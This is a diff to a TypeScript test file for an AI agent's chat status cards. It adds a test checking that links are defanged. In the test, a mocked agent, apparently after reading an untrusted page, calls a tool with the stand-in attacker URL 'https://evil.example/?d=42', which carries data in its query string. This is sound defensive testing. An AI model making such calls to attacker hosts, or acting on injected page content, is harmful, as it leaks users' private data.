@@ -33,7 +33,7 @@ async function cardSetting(
       running.push(resolve);
       signal.addEventListener('abort', () => resolve(), { once: true });
     });
-    return llmOnly(`saw ${what}`);
+    return { ...llmOnly(`saw ${what}`), untrusted: what === 'a page' ? 'evil.example' : undefined };
   });
   const parts = await deploySetting({
     ...options,
@@ -100,6 +100,23 @@ describe('the card of a turn', () => {
     expect(setting.rows("SELECT state, previews FROM outbox WHERE kind = 'status'")).toEqual([
       { state: 'delivered', previews: null },
     ]);
+  });
+
+  test('has no links where these could carry out what is private', async () => {
+    const parts = await lookingSetting(['a page']);
+    const { setting, channel, letEnd } = parts;
+    await letEnd();
+    await channel.seesAtRest('echo: saw a page');
+    const answer = nextAnswer(setting);
+    await channel.say('look again');
+    await answer.call('one', 'look', { what: 'https://evil.example/?d=42' });
+    await seesAfter(parts, '⏳');
+    expect(cardsOf(channel).at(-1)).toEqual(['⏳ `look`']);
+    await answer.end();
+    await seesAfter(parts, 'step 1');
+    expect(cardsOf(channel).at(-1)?.[0]).toContain('· look hxxps://evil\\[.\\]example/?d=42 ·');
+    await letEnd();
+    await channel.whenIdle();
   });
 
   test('is not there for calls that end within 700 ms: nothing is stored, and no timer is left', async () => {
